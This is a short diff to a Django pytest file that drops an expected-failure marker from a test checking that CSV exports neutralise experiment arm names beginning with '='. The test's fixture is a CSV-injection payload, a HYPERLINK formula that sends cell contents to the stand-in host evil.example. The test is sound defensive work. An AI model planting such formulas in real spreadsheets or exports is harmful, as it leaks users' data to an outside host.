@@ -30,7 +30,6 @@ pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open the report")'
 
 
-@pytest.mark.xfail(strict=True, reason="arm names go into the CSV unguarded, so a leading = is a spreadsheet formula")
 def test_an_arm_named_like_a_formula_is_not_a_formula_in_the_csv():
     experiment = make_allowance_experiment(arms={"Five": 5, FORMULA: 3})
     business = make_staff(username="sales")
